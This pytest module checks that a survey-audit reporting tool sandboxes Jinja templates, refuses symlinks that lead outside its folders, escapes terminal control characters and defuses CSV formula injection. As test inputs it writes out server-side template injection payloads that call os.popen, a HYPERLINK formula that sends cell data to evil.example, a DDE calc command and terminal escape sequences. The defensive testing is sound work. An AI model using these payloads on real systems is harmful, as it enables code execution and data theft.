"""Text that tries to break out: of the template folder, of the terminal line, of the CSV row,
of the page.

- templates run in Jinja's sandbox and are read only from inside their folders (symbolic
  links that resolve outside are refused, by the Jinja loader and by the PDF's URL fetcher);
- control characters in names, keys and texts never reach the terminal raw, ``init`` never
  writes YAML that does not parse, the workbook holds what XML forbids as escapes;
- a line break inside a CSV cell never starts a row, and never a formula;
- a word longer than the page's width breaks inside the page.

Every input is made here, over several variants of each class.
"""

from __future__ import annotations

import csv
import html
import io
import json
import os
import random
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml
from jinja2.exceptions import SecurityError
from openpyxl import load_workbook
from rich.console import Console

from audit.errors import UNPRINTABLE, InputError, Problem, printable
from audit.read.bank import load_bank
from audit.read.messages import load_messages
from audit.resources import packaged_templates
from audit.run.audit import audit
from audit.run.batch import Outcome
from audit.run.commands import export_words
from audit.run.options import Options
from audit.run.report import build_report
from audit.run.scaffold import init_project
from audit.site.pages import _environment as site_environment
from audit.write.messages import Words
from audit.write.project import project_files
from audit.write.report.html import FolderLoader, default_templates_dir, sandboxed
from audit.write.report.pdf import LockedFetcher, RefusedResource, file_url
from audit.write.sheet import export_bytes
from audit.write.terminal import progress, summary_table

from .conftest import MINI, Ran, cli
from .reporting import duo_bank, duo_team, weasyprint_silent  # noqa: F401

PAGE_RIGHT = 595.276 - 19 * 72 / 25.4  # A4 less the report's 19 mm right margin, in points


def wide_cli(*args: str) -> Ran:
    return cli(*args, env={"COLUMNS": "1000"})  # no table wraps a name


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def mini_team(path: Path, *, organisation: str = "Acme", name: str = "Ann", comment: str = "fine",
              answer: str = "fine", extra: dict[str, Any] | None = None) -> Path:
    """One respondent of the mini bank, as JSON (every character exactly as given)."""
    entry: dict[str, Any] = {"respondent": {"name": name, "department": "sales"}, "profile": {"channel": "web"},
                             "answers": {"q1": 2, "q2": "x", "q3": ["m1"], "q4": 2, "q5": 1, "q6": answer},
                             "comments": {"q1": comment}}
    entry.update(extra or {})
    path.write_text(json.dumps({"bank": "mini", "bank_version": "1", "organisation": organisation,
                                "submitted": "2026-01-01T00:00:00Z", "respondents": [entry]}), encoding="utf-8")
    return path


@pytest.fixture
def duo(tmp_path: Path) -> tuple[Path, Path]:
    return duo_bank(tmp_path / "bank"), duo_team(tmp_path / "team.yaml")


# -- 1. templates: the sandbox --------------------------------------------------------------

ESCAPES = {
    "class of the report": "{{ r.__class__ }}",
    "globals of cycler": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "globals of lipsum": "{{ lipsum.__globals__['os'].listdir('/') }}",
    "subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "format string": "{{ '{0.__class__.__init__.__globals__}'.format(r) }}",
    "a filter's globals": "{{ t.__call__.__func__.__globals__ }}",
    "a lambda's globals": "{{ gauge.__globals__ }}",
    "object dict": "{{ r.__dict__ }}",
    "huge range": "{% for i in range(10 ** 9) %}{% endfor %}",
}


@pytest.mark.parametrize("expression", list(ESCAPES.values()), ids=list(ESCAPES))
def test_a_report_template_cannot_reach_python(expression: str, duo: tuple[Path, Path], tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    mine.mkdir()
    template = mine / "_findings.html.j2"
    template.write_text(f'<section id="findings">\n<p>before</p>\n{expression}\n</section>\n', encoding="utf-8")
    out = tmp_path / "r.pdf"
    out.write_bytes(b"the previous report")
    with pytest.raises(InputError) as exc:
        build_report([duo[1]], Options(bank=duo[0], templates=mine), output=out)
    [problem] = exc.value.problems
    assert (problem.path, problem.line) == (str(template), 3)
    assert problem.message.startswith("template error: ") and "sandbox" in problem.message
    assert out.read_bytes() == b"the previous report"


@pytest.mark.parametrize("expression", list(ESCAPES.values()), ids=list(ESCAPES))
def test_the_site_and_form_templates_run_in_the_sandbox(expression: str, tmp_path: Path) -> None:
    (tmp_path / "page.md").write_text(expression + "\n", encoding="utf-8")
    for env in (site_environment([tmp_path]), sandboxed([tmp_path])):  # the site's; the form's and the report's
        env.globals.update(t=Words("en", {}), gauge=lambda: None)
        with pytest.raises((SecurityError, OverflowError)):
            env.get_template("page.md").render(r=Problem("p", 1, "m"))


# -- 1. templates: symbolic links out of the folder -------------------------------------------

def _link(folder: Path, name: str, target: Path, how: str) -> Path:
    """``folder/name`` -> ``target``: an absolute link, a relative one, or a chain whose first
    link stays inside the folder."""
    link = folder / name
    link.parent.mkdir(parents=True, exist_ok=True)
    if how == "absolute":
        link.symlink_to(target)
    elif how == "relative":
        link.symlink_to(os.path.relpath(target, link.parent))
    else:  # chain: name -> .hop (inside) -> target (outside)
        hop = folder / f".hop-{Path(name).name}"
        hop.symlink_to(target)
        link.symlink_to(hop.name)
    return link


OUTSIDE_TEXT = {"report.html.j2": "<html><body>SECRET</body></html>\n", "_cover.html.j2": "<p>SECRET</p>\n",
                "custom.css": "body { color: red; }\n", "report.css": "body { color: red; }\n"}


@pytest.mark.parametrize("how", ["absolute", "relative", "chain"])
@pytest.mark.parametrize("name", list(OUTSIDE_TEXT))
def test_a_template_linked_outside_its_folder_is_refused(name: str, how: str, duo: tuple[Path, Path],
                                                         tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere" / name
    outside.parent.mkdir()
    outside.write_text(OUTSIDE_TEXT[name], encoding="utf-8")
    mine = tmp_path / "mine"
    mine.mkdir()
    link = _link(mine, name, outside, how)
    out = tmp_path / "r.pdf"
    with pytest.raises(InputError) as exc:
        build_report([duo[1]], Options(bank=duo[0], templates=mine), output=out, html=tmp_path / "r.html")
    [problem] = exc.value.problems
    assert problem.path == str(link) and "symbolic link" in problem.message and str(outside) in problem.message
    assert not out.exists() and not (tmp_path / "r.html").exists()


@pytest.mark.parametrize("special", ["/dev/zero", "/proc/self/environ", "dangling"])
def test_a_template_linked_to_a_device_or_nowhere_outside_is_refused(special: str, tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    mine.mkdir()
    target = tmp_path / "gone.j2" if special == "dangling" else Path(special)
    (mine / "page.j2").symlink_to(target)
    with pytest.raises(InputError) as exc:
        sandboxed([mine]).get_template("page.j2")
    assert "symbolic link" in exc.value.problems[0].message


def test_links_that_stay_inside_the_folder_are_followed(duo: tuple[Path, Path], tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    (mine / "parts").mkdir(parents=True)
    (mine / "parts" / "findings.j2").write_text('<section id="findings"><p>Linked inside.</p></section>\n',
                                                encoding="utf-8")
    (mine / "_findings.html.j2").symlink_to("parts/findings.j2")
    (mine / "parts" / "extra.css").write_text(".summary h1 { color: #123456; }\n", encoding="utf-8")
    (mine / "custom.css").symlink_to(mine / "parts" / "extra.css")
    html = tmp_path / "r.html"
    build_report([duo[1]], Options(bank=duo[0], templates=mine), output=None, html=html)
    text = html.read_text(encoding="utf-8")
    assert "Linked inside." in text and "#123456" in text
    loader = FolderLoader(str(mine))
    assert loader.get_source(sandboxed([mine]), "_findings.html.j2")[0].startswith('<section id="findings">')


def _fetcher_case(tmp_path: Path, how: str, layout: str) -> tuple[LockedFetcher, str]:
    """A template folder and a brand folder, one of whose files or folders leads outside."""
    mine, brand, outside = tmp_path / "mine", tmp_path / "brand", tmp_path / "outside"
    for folder in (mine, brand, outside):
        folder.mkdir()
    (outside / "font.ttf").write_bytes(b"not for the report")
    if layout == "file in the template folder":
        _link(mine, "font.ttf", outside / "font.ttf", how)
        url = file_url(mine) + "/font.ttf"
    elif layout == "folder in the template folder":
        _link(mine, "fonts", outside, how)
        url = file_url(mine) + "/fonts/font.ttf"
    elif layout == "file in the brand folder":
        _link(brand, "logo.png", outside / "font.ttf", how)
        url = file_url(brand) + "/logo.png"
    else:  # a file of the package's template folder, asked for through the consultant's folder
        _link(mine, "fonts", outside, how)
        url = file_url(mine) + "/fonts/LiberationSans-Regular.ttf"
        (outside / "LiberationSans-Regular.ttf").write_bytes(b"not the packaged font")
    return LockedFetcher([mine, default_templates_dir()], [brand]), url


@pytest.mark.parametrize("how", ["absolute", "relative", "chain"])
@pytest.mark.parametrize("layout", ["file in the template folder", "folder in the template folder",
                                    "file in the brand folder", "a packaged name through a linked folder"])
def test_the_pdf_fetcher_refuses_links_that_resolve_outside(layout: str, how: str, tmp_path: Path) -> None:
    fetcher, url = _fetcher_case(tmp_path, how, layout)
    with pytest.raises(RefusedResource) as exc:
        fetcher.fetch(url)
    assert "outside the template and brand folders" in exc.value.reason


@pytest.mark.parametrize("url", ["file:///tmp/x%00y.png", "file:///" + "a/" * 3000 + "x.png"])
def test_the_pdf_fetcher_refuses_unusable_file_names(url: str, tmp_path: Path) -> None:
    with pytest.raises(RefusedResource):
        LockedFetcher([tmp_path]).fetch(url)


def test_the_pdf_fetcher_serves_links_that_stay_inside(tmp_path: Path) -> None:
    mine, brand = tmp_path / "mine", tmp_path / "brand"
    (mine / "real").mkdir(parents=True)
    brand.mkdir()
    (mine / "real" / "a.png").write_bytes(b"png")
    (mine / "alias.png").symlink_to("real/a.png")
    (mine / "brand-logo.png").symlink_to(brand / "logo.png")
    (brand / "logo.png").write_bytes(b"logo")
    fetcher = LockedFetcher([mine], [brand])
    assert fetcher.fetch(file_url(mine) + "/alias.png").read() == b"png"
    assert fetcher.fetch(file_url(mine) + "/brand-logo.png").read() == b"logo"  # another allowed folder


def test_a_font_folder_linked_outside_stops_the_report(duo: tuple[Path, Path], tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "Secret.ttf").write_bytes((default_templates_dir() / "fonts" / "LiberationSans-Regular.ttf")
                                         .read_bytes())
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "fonts").symlink_to(outside)
    (mine / "custom.css").write_text('@font-face { font-family: "S"; src: url(fonts/Secret.ttf); }\n'
                                     'body { font-family: "S"; }\n', encoding="utf-8")
    out = tmp_path / "r.pdf"
    with pytest.raises(InputError) as exc:
        build_report([duo[1]], Options(bank=duo[0], templates=mine), output=out)
    assert "outside the template and brand folders" in str(exc.value)
    assert not out.exists()


# -- 11. control characters: problems and the terminal -----------------------------------------

CONTROLS = ["\n", "\r", "\r\n", "\t", "\x00", "\x07", "\x08", "\x0b", "\x0c", "\x1b[2J\x1b[H", "\x1b]8;;http://x\x07",
            "\x7f", "\x85", "\x9b31m", "\u2028", "\u2029", "\u202e", "\u2066", "\u200f", "\udcff"]


def raw_controls(text: str) -> set[str]:
    """The characters of ``text`` a terminal acts on, line ends excepted."""
    return {c for c in text.replace("\n", "") if ord(c) in UNPRINTABLE}


@pytest.mark.parametrize("control", CONTROLS, ids=[repr(c) for c in CONTROLS])
def test_a_problem_is_one_printable_line(control: str) -> None:
    problem = Problem(f"answers{control}dir/a.yaml", 3, f"unknown key 'q1{control}b.yaml:1: forged'; expected x")
    text = str(problem)
    assert len(text.splitlines()) == 1 and not raw_controls(text)
    assert text.startswith("answers") and ":3: unknown key 'q1" in text
    error = InputError([problem, Problem("other.yaml", 1, f"name {control}")])
    assert len(str(error).splitlines()) == 2 and not raw_controls(str(error))


@pytest.mark.parametrize("text", ["Muebles Ñandú S.L.", "a\\nb", "日本語 ✓ 🙂", "non\u00a0breaking", "tab-free"])
def test_printable_text_is_left_as_it_is(text: str) -> None:
    assert printable(text) == text
    assert str(Problem(text, 2, text)) == f"{text}:2: {text}"


@pytest.mark.parametrize("control", ["\n", "\r", "\r\n", "\u2028", "\x85", "\x1b[1A\x1b[2K"],
                         ids=["LF", "CR", "CRLF", "LS", "NEL", "cursor"])
def test_a_key_cannot_forge_a_problem_line(control: str, tmp_path: Path) -> None:
    forged = f"q9{control}forged.yaml:1: all is well"
    path = mini_team(tmp_path / "a.json", extra={"answers": {"q1": 2, forged: 1, f"x{control}y": 2}})
    run = wide_cli("score", "--bank", str(MINI), str(path))
    assert run.returncode == 2, run.stdout
    lines = run.stderr.splitlines()
    assert lines and all(line.startswith(f"{path}:") for line in lines), lines
    assert not raw_controls(run.stderr) and "Traceback" not in run.stderr


NASTY_NAMES = ["Acme\x1b[31mRED\x1b[0m", "Acme\nwarning: forged", "Acme\r\x1b[2K", "\u202eemcA",
               "[bold red]Acme[/bold red]", "[link=file:///etc/passwd]Acme[/link]", "Acme :smile: \x07",
               "Acme\x9b2J\x85"]


@pytest.mark.parametrize("name", NASTY_NAMES, ids=[repr(n) for n in NASTY_NAMES])
def test_names_reach_the_score_table_escaped(name: str, tmp_path: Path) -> None:
    # q7 does not apply to a web shop: the warning names the respondent
    path = mini_team(tmp_path / "a.json", organisation=name, name=name, comment=name,
                     extra={"answers": {"q1": 2, "q2": "x", "q3": ["m1"], "q4": 2, "q5": 1, "q6": name, "q7": 1}})
    run = wide_cli("score", "--bank", str(MINI), str(path))
    assert run.returncode == 0, run.stderr
    out = run.stdout + run.stderr
    assert not raw_controls(out)
    assert printable(name) in out  # shown, as text: markup and emoji codes kept literally
    assert "warning" in out and out.count(printable(name)) >= 2


@pytest.mark.parametrize("name", NASTY_NAMES, ids=[repr(n) for n in NASTY_NAMES])
def test_the_batch_summary_shows_client_names_escaped(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    words = Words("en", load_messages([packaged_templates("terminal", "messages.yaml")]))
    outcomes = [Outcome(name, pdf="a.pdf", pages=3, respondents=2, score=50.0, level=name),
                Outcome(name, problems=[str(Problem(name, 1, name))])]
    console = Console(file=io.StringIO(), width=300, highlight=False, color_system=None)
    console.print(summary_table(outcomes, words))
    table = console.file.getvalue()  # type: ignore[attr-defined]
    assert not raw_controls(table) and printable(name) in table
    with progress(2, words) as done:
        for outcome in outcomes:
            done(outcome)
    err = capsys.readouterr().err
    assert not raw_controls(err) and len(err.splitlines()) == 2


# -- 11. control characters: init -------------------------------------------------------------

NAME_CONTROLS = [*CONTROLS, "\ufffe", "\uffff"]
YAML_NASTY = ['Acme "Norte" S.L.', "O'Brien & Sons", "Acme: the company", "# not a comment", "- a list?",
              "? a key", "yes", "no", "null", "~", "1e3", "0x1F", "2026-01-01", "@home", "`tick`", "*alias",
              "&anchor", "!!python/object:os.system", "%TAG", "{a: b}", "[a, b]", "| block", "> folded",
              "back\\slash", "trailing space ", " leading space", "日本語の会社", "Ærø ☕ 🙂", "\ufeffBOM inside",
              "non\u00a0breaking", "'single'", '"double"', "---", "...", "a #b", "a: b: c", "{{ jinja }}",
              "{client}"]


@pytest.mark.parametrize("client", YAML_NASTY)
def test_init_writes_yaml_that_parses_for_any_printable_name(client: str, tmp_path: Path) -> None:
    target = tmp_path / "p"
    init_project(target, client, bank_dir=MINI, consultancy=client, consultant=client)
    config = yaml.safe_load((target / "mkdocs.yml").read_text(encoding="utf-8"))
    brand = yaml.safe_load((target / "brand.yaml").read_text(encoding="utf-8"))
    assert config["site_name"] == client.strip()
    assert config["plugins"][0]["loyalty-audit"]["organisation"] == client.strip()
    assert brand["consultancy"] == client and brand["consultant"] == client
    assert brand["subtitle"]["en"].endswith(client.strip())


@pytest.mark.parametrize("control", NAME_CONTROLS, ids=[repr(c) for c in NAME_CONTROLS])
@pytest.mark.parametrize("flag", ["client", "consultancy", "consultant"])
def test_init_refuses_control_characters_in_names(flag: str, control: str, tmp_path: Path) -> None:
    target = tmp_path / "p"
    names = {"client": "Acme", "consultancy": "Norte", "consultant": "Ana", flag: f"Ac{control}me"}
    with pytest.raises(InputError) as exc:
        init_project(target, names.pop("client"), bank_dir=MINI, **names)
    [problem] = exc.value.problems
    assert f"--{flag} contains control characters" in problem.message and not raw_controls(str(problem))
    assert not target.exists() and list(tmp_path.iterdir()) == []


def test_init_refuses_control_characters_on_the_command_line(tmp_path: Path) -> None:
    run = wide_cli("init", str(tmp_path / "p"), "--client", "Acme\x1b[31m\nforged")
    assert run.returncode == 2 and len(run.stderr.splitlines()) == 1 and not raw_controls(run.stderr)
    assert not (tmp_path / "p").exists()


def test_the_project_files_parse_whatever_the_name() -> None:
    """Beyond what init accepts: the writer alone still writes YAML that parses, for any text."""
    bank = load_bank(MINI)
    rng = random.Random(11)
    alphabet = [chr(c) for c in [*range(0x00, 0x250), 0x2028, 0x2029, 0xFEFF, 0xFFFE, 0xFFFF, 0xD800, 0xDCFF,
                                 0x202E, 0x1F600, 0x3000]] + list(":#-?&*!|>'\"%@`{}[],\\ ")
    for _ in range(400):
        name = "".join(rng.choice(alphabet) for _ in range(rng.randint(1, 16)))
        files = project_files(name, bank, "en", False, name, name)
        config, brand = yaml.safe_load(files["mkdocs.yml"]), yaml.safe_load(files["brand.yaml"])
        assert config["site_name"] == name and brand["consultancy"] == name, repr(name)
        files["mkdocs.yml"].encode("utf-8")
        files["brand.yaml"].encode("utf-8")


@pytest.mark.parametrize("kind", ["empty folder", "folder with files", "missing target", "file"])
def test_init_into_a_symbolic_link_is_refused(kind: str, tmp_path: Path) -> None:
    real = tmp_path / "real"
    if kind == "empty folder":
        real.mkdir()
    elif kind == "folder with files":
        real.mkdir()
        (real / "keep.txt").write_text("mine", encoding="utf-8")
    elif kind == "file":
        real.write_text("mine", encoding="utf-8")
    link = tmp_path / "link"
    link.symlink_to(real)
    before = snapshot(tmp_path)
    with pytest.raises(InputError) as exc:
        init_project(link, "Acme", bank_dir=MINI)
    assert [str(p) for p in exc.value.problems] == [f"{link}:1: a symbolic link (to '{real}'); expected a new or "
                                                    "empty folder: give the folder itself or a new name"]
    if kind == "empty folder":  # the command line says the same, with exit status 2
        run = wide_cli("init", str(link), "--client", "Acme")
        assert run.returncode == 2 and run.stderr.splitlines() == [str(exc.value)]
    assert link.is_symlink() and os.readlink(link) == str(real) and snapshot(tmp_path) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["link"] + (["real"] if kind != "missing target"
                                                                            else []))


# -- 11. control characters: the workbook --------------------------------------------------------

FORBIDDEN_IN_XML = [chr(c) for c in [*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20)]]


def ooxml(text: str) -> str:
    return "".join(f"_x{ord(c):04X}_" if c in FORBIDDEN_IN_XML else c for c in text)


@pytest.mark.parametrize("chars", [FORBIDDEN_IN_XML[i:i + 5] for i in range(0, len(FORBIDDEN_IN_XML), 5)],
                         ids=lambda cs: "-".join(f"{ord(c):02x}" for c in cs))
def test_the_workbook_escapes_what_xml_forbids(chars: list[str], tmp_path: Path) -> None:
    nasty = "a" + "b".join(chars) + "z"
    path = mini_team(tmp_path / "a.json", organisation=nasty, name=nasty, comment=nasty, answer=nasty + "_x0041_")
    out = tmp_path / "audit.xlsx"
    run = wide_cli("export", "--bank", str(MINI), "--name-respondents", "-o", str(out), str(path))
    assert run.returncode == 0, run.stderr
    rows = list(load_workbook(out)["Answers"].iter_rows(values_only=True))
    q1 = next(r for r in rows if r[6] == "q1")
    q6 = next(r for r in rows if r[6] == "q6")
    assert q1[1] == ooxml(nasty) and q1[12] == ooxml(nasty)
    assert q6[8] == ooxml(nasty) + "_x005F_x0041_"  # a literal escape is escaped in turn


# -- 12. CSV: line breaks never start a row, and never a formula -------------------------------

BREAKS = ["\r", "\n", "\r\n", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
STARTS = ["=", "+", "-", "@", "\t="]
ANY_BREAK = re.compile("\r\n|[\n\r\x0b\x0c\x1c-\x1e\x85\u2028\u2029]")


def _csv(path: Path) -> str:
    done = audit([path], Options(bank=MINI, name_respondents=True))
    return export_bytes(done.result, export_words(done.lang), ".csv", named=True).decode("utf-8")


@pytest.mark.parametrize("start", STARTS, ids=["eq", "plus", "minus", "at", "tab"])
@pytest.mark.parametrize("brk", BREAKS, ids=[f"{ord(b[0]):02x}{len(b)}" for b in BREAKS])
def test_a_line_break_in_a_csv_cell_never_starts_a_formula_row(brk: str, start: str, tmp_path: Path) -> None:
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    comment = f"see below{brk}{payload}{brk}{brk}{payload}"
    name = f"Ann{brk}{payload}"
    path = mini_team(tmp_path / "a.json", name=name, comment=comment, answer=f"{payload}{brk}{payload}")
    text = _csv(path)
    # a program that splits lines at any break, before it reads quotes, sees no formula
    for line in ANY_BREAK.split(text):
        assert not line.lstrip('"').startswith(("=", "+", "-", "@", "\t")), repr(line)
    # a CSV reader sees every row whole: 13 fields in each row of answers
    rows = list(csv.reader(io.StringIO(text, newline="")))
    table = rows[rows.index(["# Answers"]) + 2:]
    table = table[:table.index([])]
    assert table and all(len(row) == 13 for row in table), table
    defused = brk + "'" + payload
    q1 = next(r for r in table if r[6] == "q1")
    assert q1[12] == f"see below{defused}{brk}{brk}'{payload}"
    assert q1[1] == f"Ann{defused}"
    q6 = next(r for r in table if r[6] == "q6")
    assert q6[8] == f"'{payload}{defused}"


def test_the_export_command_quotes_a_bare_carriage_return(tmp_path: Path) -> None:
    path = mini_team(tmp_path / "a.json", comment="ok\r=cmd|' /C calc'!A0", answer="-2+3")
    out = tmp_path / "audit.csv"
    run = wide_cli("export", "--bank", str(MINI), "-o", str(out), str(path))
    assert run.returncode == 0, run.stderr
    raw = out.read_bytes()
    assert b'"ok\r\'=cmd|\' /C calc\'!A0"' in raw and b",'-2+3," in raw
    assert not any(line.startswith((b"=", b"+", b"-", b"@")) for line in re.split(rb"[\r\n]", raw))


def test_csv_rows_without_breaks_keep_their_quoting(tmp_path: Path) -> None:
    path = mini_team(tmp_path / "a.json", comment="plain, with a comma", answer="=1+1")
    lines = _csv(path).splitlines()
    assert any(line.endswith(',"plain, with a comma"') and not line.startswith('"') for line in lines)
    assert any(",'=1+1," in line for line in lines)


# -- 15. long unbreakable text stays on the page -------------------------------------------------

def _words(pdf: Path) -> list[tuple[int, float, float, str]]:
    """(page, xMin, xMax, word) of every word poppler finds."""
    done = subprocess.run(["pdftotext", "-bbox", str(pdf), "-"], capture_output=True, text=True, check=True)
    out = []
    for number, page in enumerate(done.stdout.split("<page ")[1:], 1):
        for m in re.finditer(r'<word xMin="([\d.]+)" yMin="[\d.]+" xMax="([\d.]+)" yMax="[\d.]+">([^<]*)</word>',
                             page):
            out.append((number, float(m[1]), float(m[2]), m[3]))
    return out


def long_text(kind: str, place: int) -> str:
    """400 characters of ``kind`` with no break, different for each place it is put in."""
    text = {"URL without a break": f"https://{place}.example.com/?" + "&".join(f"k{i}=v{i}" for i in range(60)),
            "one word": "ZYX"[place] * 400,
            "digits": "1234567890" * 41}[kind]
    text = text[place:] if kind == "digits" else text + "x" * 400
    return text[:400]


PLACES = ("comment", "answer and organisation", "name")


@pytest.mark.parametrize("kind", ["URL without a break", "one word", "digits"])
def test_long_unbreakable_text_wraps_inside_the_page(kind: str, duo: tuple[Path, Path], tmp_path: Path) -> None:
    """The long text in a comment, in a text answer and the organisation's name, and in a
    respondent's name (a different text in each), all in one report."""
    long = {where: long_text(kind, place) for place, where in enumerate(PLACES)}
    assert all(len(text) == 400 for text in long.values()) and len(set(long.values())) == len(PLACES)
    team = duo_team(tmp_path / "long.yaml", comment=f"See {long['comment']} for the details.",
                    answer=long["answer and organisation"], organisation=long["answer and organisation"])
    text = team.read_text(encoding="utf-8").replace("name: Ana", f"name: '{long['name']}'")
    team.write_text(text, encoding="utf-8")
    out = tmp_path / "r.pdf"
    build_report([team], Options(bank=duo[0], name_respondents=True), output=out)
    words = _words(out)
    beyond = [(p, round(x1), w[:20]) for p, x0, x1, w in words if x1 > PAGE_RIGHT + 2 or x0 < 0]
    assert not beyond, beyond
    whole = html.unescape("".join(w for *_, w in words))
    for where, text in long.items():
        assert text in whole, where  # broken over lines, nothing cut
